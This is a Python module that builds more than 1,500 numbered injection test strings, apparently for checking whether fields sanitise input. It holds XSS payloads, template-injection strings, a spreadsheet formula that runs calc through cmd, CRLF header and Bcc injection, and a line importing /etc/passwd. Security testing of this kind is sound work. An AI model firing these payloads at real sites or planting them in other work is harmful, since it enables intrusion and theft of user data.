"""Texts that try to run: at least 1,500 of them, each short enough for a field and with its own number."""

from collections.abc import Iterator

CALL = "hit({n})"
TAGS = ("img src=x", "svg", "body", "details open", "video src=x", "audio src=x", "iframe", "input autofocus", "select autofocus",
        "textarea autofocus", "marquee", "object data=x", "style", "a href=# autofocus tabindex=1", "math", "form", "button", "div",
        "p", "xss contenteditable", "dialog open", "table background=x", "link rel=stylesheet href=x", "meta", "embed src=x")  # fmt: skip
EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onanimationstart", "onpointerenter", "onbegin", "onstart", "oncontentvisibilityautostatechange",
          "onbeforetoggle", "onscrollend", "onwheel", "onmouseover", "onbeforematch", "onsecuritypolicyviolation", "onpagereveal", "ontransitionrun",
          "oncuechange", "onloadstart", "onformdata", "onslotchange", "onanimationcancel", "onafterprint", "onhashchange", "onmessage")  # fmt: skip
WHOLE = (
    "<script>{call}</script>", "</script><script>{call}</script>", '"><script>{call}</script>', "'><script>{call}</script>",
    "<scr<script>ipt>{call}</script>", "<ScRiPt>{call}</sCrIpT>", "<script\n>{call}</script\n>", "<script/x>{call}</script>",
    "<svg><script>{call}</script></svg>", "<math><mtext><script>{call}</script>", "<!--><script>{call}</script>-->",
    "<![CDATA[<script>{call}</script>]]>", "</title><script>{call}</script>", "</textarea><script>{call}</script>",
    "</style><script>{call}</script>", "</option></select><script>{call}</script>", "<noscript><p title=\"</noscript><script>{call}</script>\">",
    "javascript:{call}", "JaVaScRiPt:{call}", " javascript:{call}", "java\tscript:{call}", "javascript&colon;{call}", "data:text/html,<script>{call}</script>",
    "vbscript:{call}", '<a href="javascript:{call}">a</a>', "<a href=javascript&#58;{call}>a</a>", "[a](javascript:{call})", "![a](javascript:{call})",
    '<iframe srcdoc="<script>{call}</script>">', "<base href=javascript:{call}//>", "<meta http-equiv=refresh content=0;url=javascript:{call}>",
    '<form action="javascript:{call}"><button>', '<button formaction="javascript:{call}">', "<object data=javascript:{call}>", "<embed src=javascript:{call}>",
    '<svg><a xlink:href="javascript:{call}"><text>a', "<svg><animate onbegin={call} attributeName=x>", '<math href="javascript:{call}">a',
    "{{constructor.constructor('{call}')()}}", "${{{call}}}", "{{% load static %}}{{{{ {call} }}}}", "<% {call} %>", "#{{{call}}}",
    '#import "/etc/passwd"; #eval("{call}")', '\\";{call};//', "\\';{call};//", "`${{{call}}}`", "<img src=\"x` `<script>{call}</script>\"` `>",
    "\u202e<script>{call}</script>", "\ufeff<script>{call}</script>", "%3Cscript%3E{call}%3C/script%3E", "&lt;script&gt;{call}&lt;/script&gt;",
    "+ADw-script+AD4-{call}+ADw-/script+AD4-", "<div hx-get=/ hx-trigger=load hx-on::load={call}>", "<div hx-on:load={call}>", "<div data-hx-on-load={call}>",
    "=cmd|' /C calc'!A{n}", '=HYPERLINK("javascript:{call}")', "+1+{n}", "-2+3+{n}", "@SUM(A{n})", "\t=1+{n}", "\r=1+{n}",
    "x\r\nSet-Cookie: a={n}", "x\r\nBcc: a{n}@evil.example", "x\nBEGIN:VALARM{n}", "a{n};b,c\\n",
)  # fmt: skip


def payloads() -> Iterator[str]:
    """Yield the whole texts, then each tag with each event, bare and broken out of an attribute, until 1,500 and more."""
    number = 0
    for pattern in WHOLE:
        number += 1
        yield pattern.format(call=CALL.format(n=number), n=number)
    for start in ("<", '"><', "'><"):
        for tag in TAGS:
            for event in EVENTS:
                number += 1
                yield f"{start}{tag} {event}={CALL.format(n=number)}>"
